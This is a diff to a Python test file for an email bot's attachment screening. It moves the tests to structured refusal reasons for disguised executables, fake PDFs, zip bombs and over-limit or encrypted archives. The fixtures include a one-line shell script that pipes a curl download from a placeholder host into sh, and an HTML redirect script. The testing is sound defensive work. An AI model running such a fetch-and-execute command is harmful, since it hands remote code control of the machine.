@@ -14,6 +14,8 @@ from hypothesis import strategies as st
 
 from inbox_bot.core.limits import ArchiveLimits
 from inbox_bot.core.models import Attachment, DocumentKind
+from inbox_bot.core.reasons import Reason, reason
+from inbox_bot.core.reasons import ReasonCode as C
 from inbox_bot.triage import attachments
 from inbox_bot.triage.attachments import (
     DOCX,
@@ -41,6 +43,15 @@ ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
 PE = b"MZ\x90\x00\x03" + bytes(59) + b"This program cannot be run in DOS mode.\r\n" + bytes(200)
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
+
+
+def detail(attachment: Attachment) -> str:
+    assert attachment.problem is not None
+    return attachment.problem.params.get("detail", "")
+
+
+def refusal(text: str, *, over_limit: bool = True) -> Reason:
+    return reason(C.ARCHIVE_REFUSED, detail=text, over_limit="1" if over_limit else "")
 
 
 def read_one(filename: str, data: bytes, limits: ArchiveLimits | None = None) -> Attachment:
@@ -119,7 +130,7 @@ def test_files_too_big_to_parse_are_kept_unread() -> None:
 
 def test_password_protected_pdf() -> None:
     attachment = read_one("CV.pdf", make_pdf(["Curriculum vitae"], encrypt_password="secret"))
-    assert attachment.problem == "password-protected PDF"
+    assert attachment.problem == reason(C.PASSWORD_PROTECTED)
     assert attachment.text == ""
 
 
@@ -133,13 +144,13 @@ def test_truncated_pdf_is_corrupt() -> None:
     data = make_pdf(["Curriculum vitae"], pages=3)
     attachment = read_one("CV.pdf", data[: len(data) // 2])
     assert attachment.problem is not None
-    assert attachment.problem.startswith("corrupt or unreadable PDF")
+    assert attachment.problem.code is C.UNREADABLE_FILE and detail(attachment).startswith("PDF: ")
     assert attachment.mime == "application/pdf"
 
 
 def test_password_protected_docx_is_an_ole_file() -> None:
     attachment = read_one("Offre financière.docx", OLE)
-    assert attachment.problem == "password-protected or legacy Word file"
+    assert attachment.problem == reason(C.PROTECTED_OR_OLD, format="Word")
     assert not attachment.safe_name.endswith(".docx")
 
 
@@ -148,7 +159,8 @@ def test_password_protected_docx_is_an_ole_file() -> None:
 def test_program_named_like_a_document_is_refused(data: bytes, name: str) -> None:
     attachment = read_one(name, data)
     ext = name.rsplit(".", 1)[1]
-    assert attachment.problem == f"executable disguised as .{ext}"
+    assert attachment.problem is not None and attachment.problem.code is C.DISGUISED_TYPE
+    assert attachment.problem.params["named"] == ext and "executable" in attachment.problem.params["real"]
     assert attachment.text == ""
     assert attachment.safe_name.endswith(".bin")
     assert classify(attachment).kind is DocumentKind.OTHER
@@ -156,7 +168,7 @@ def test_program_named_like_a_document_is_refused(data: bytes, name: str) -> Non
 
 def test_program_with_its_own_extension_is_refused_too() -> None:
     attachment = read_one("setup.exe", PE)
-    assert attachment.problem is not None and "executable" in attachment.problem
+    assert attachment.problem == reason(C.EXECUTABLE_REFUSED, type="application/x-dosexec")
     assert attachment.safe_name == "setup.bin"
 
 
@@ -164,7 +176,7 @@ def test_html_with_a_pdf_marker_near_its_start_is_not_a_pdf() -> None:
     data = b"<html><body>\n%PDF-1.7 <script>location='http://example.invalid'</script></body></html>"
     attachment = read_one("Offre.pdf", data)
     assert attachment.mime == "text/html"
-    assert attachment.problem is not None and "not a real PDF" in attachment.problem
+    assert attachment.problem == reason(C.DISGUISED_TYPE, real="text/html", named="pdf")
     assert not attachment.safe_name.endswith(".pdf")
 
 
@@ -177,13 +189,13 @@ def test_html_with_a_pdf_marker_near_its_start_is_not_a_pdf() -> None:
 def test_extension_and_content_must_agree(name: str, data: bytes, mime: str) -> None:
     attachment = read_one(name, data)
     assert attachment.mime == mime
-    assert attachment.problem == f"named .{name.rsplit('.', 1)[1]} but content is {mime}"
+    assert attachment.problem == reason(C.DISGUISED_TYPE, real=mime, named=name.rsplit(".", 1)[1])
     assert attachment.text == ""
 
 
 def test_other_archive_formats_are_not_opened() -> None:
     attachment = read_one("dossier.rar", b"Rar!\x1a\x07\x00" + bytes(100))
-    assert attachment.problem == "archive format rar not supported (only zip is opened)"
+    assert attachment.problem == reason(C.ARCHIVE_UNSUPPORTED, format="rar")
 
 
 # ---------------------------------------------------------------- zip archives
@@ -226,7 +238,7 @@ def test_zip_nested_deeper_than_the_limit_is_refused_whole() -> None:
     archive = make_zip({"lettre.pdf": make_pdf(["x"]), "l2.zip": make_zip({"l3.zip": level3})})
     (refused,) = read_attachments([("dossier.zip", archive)])
     assert refused.filename == "dossier.zip"
-    assert refused.problem == "archive refused: archives nested 3 deep, limit 2"
+    assert refused.problem == refusal("archives nested 3 deep, limit 2")
     assert read_attachments([("dossier.zip", archive)], ArchiveLimits(max_depth=3))[-1].filename == "CV.pdf"
 
 
@@ -239,8 +251,8 @@ def test_zip_bomb_is_refused_fast_and_small() -> None:
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
     assert refused.problem is not None
-    assert refused.problem.startswith("archive refused: compression ratio ")
-    assert refused.problem.endswith(":1 over limit 100")
+    assert refused.problem.code is C.ARCHIVE_REFUSED
+    assert detail(refused).startswith("compression ratio ") and detail(refused).endswith(":1 over limit 100")
     assert elapsed < 0.5
     assert peak < 5 * 1024 * 1024
 
@@ -253,7 +265,7 @@ def test_zip_bomb_with_lying_headers_is_refused_fast_and_small() -> None:
     elapsed = time.perf_counter() - started
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
-    assert refused.problem is not None and refused.problem.startswith("corrupt or unsupported archive")
+    assert refused.problem is not None and detail(refused).startswith("corrupt or unsupported archive")
     assert elapsed < 0.5
     assert peak < 5 * 1024 * 1024
 
@@ -268,7 +280,7 @@ def test_inflating_is_bounded_even_when_the_headers_fool_the_first_check(monkeyp
     elapsed = time.perf_counter() - started
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
-    assert refused.problem is not None and refused.problem.startswith("archive refused: compression ratio ")
+    assert refused.problem is not None and detail(refused).startswith("compression ratio ")
     assert elapsed < 1
     assert peak < 64 * 1024 * 1024  # stopped at max_ratio times the compressed size, far from 200 MB
 
@@ -277,26 +289,26 @@ def test_archive_over_the_total_limit_is_refused() -> None:
     members = {f"f{i}.bin": bytes(range(256)) * 4096 for i in range(3)}  # 1 MB each, barely compressible
     limits = ArchiveLimits(max_total_uncompressed_mb=2)
     (refused,) = read_attachments([("a.zip", make_zip(members))], limits)
-    assert refused.problem is not None and "MB uncompressed over limit 2 MB" in refused.problem
+    assert refused.problem is not None and "MB uncompressed over limit 2 MB" in detail(refused)
 
 
 def test_member_over_the_size_limit_is_refused() -> None:
     limits = ArchiveLimits(max_member_mb=1, max_ratio=10_000)
     (refused,) = read_attachments([("a.zip", make_zip({"big.txt": bytes(2 * 1024 * 1024)}))], limits)
-    assert refused.problem == "archive refused: 'big.txt' unpacks to over 1 MB"
+    assert refused.problem == refusal("'big.txt' unpacks to over 1 MB")
 
 
 def test_too_many_members_is_refused() -> None:
     archive = make_zip({f"page{i}.txt": b"x" for i in range(201)})
     (refused,) = read_attachments([("scans.zip", archive)])
-    assert refused.problem == "archive refused: 201 files over limit 200"
+    assert refused.problem == refusal("201 files over limit 200")
     assert len(read_attachments([("scans.zip", archive)], ArchiveLimits(max_members=201))) == 201
 
 
 def test_encrypted_zip_is_refused() -> None:
     archive = set_encrypted_flag(make_zip({"CV.pdf": make_pdf(["Curriculum vitae"])}))
     (refused,) = read_attachments([("dossier.zip", archive)])
-    assert refused.problem == "encrypted archive"
+    assert refused.problem == refusal("encrypted archive", over_limit=False)
     assert refused.mime == "application/zip"
 
 
@@ -305,14 +317,15 @@ def test_encrypted_zip_is_refused() -> None:
     (b"PK\x03\x04" + bytes(60), "corrupt or unsupported archive: File is not a zip file"),
 ])
 def test_empty_or_corrupt_zip_says_so(data: bytes, problem: str) -> None:
-    assert read_one("dossier.zip", data).problem == problem
+    assert read_one("dossier.zip", data).problem == refusal(problem, over_limit=False)
 
 
 def test_zip_based_document_that_is_a_bomb_is_refused() -> None:
     document = make_zip({"word/document.xml": bytes(20 * 1024 * 1024), "[Content_Types].xml": b"<x/>"})
     attachment = read_one("CV.docx", document)
     assert attachment.mime == DOCX
-    assert attachment.problem is not None and attachment.problem.startswith("document refused: compression ratio")
+    assert attachment.problem is not None and attachment.problem.code is C.UNREADABLE_FILE
+    assert detail(attachment).startswith("compression ratio")
 
 
 # ---------------------------------------------------------------- safe names
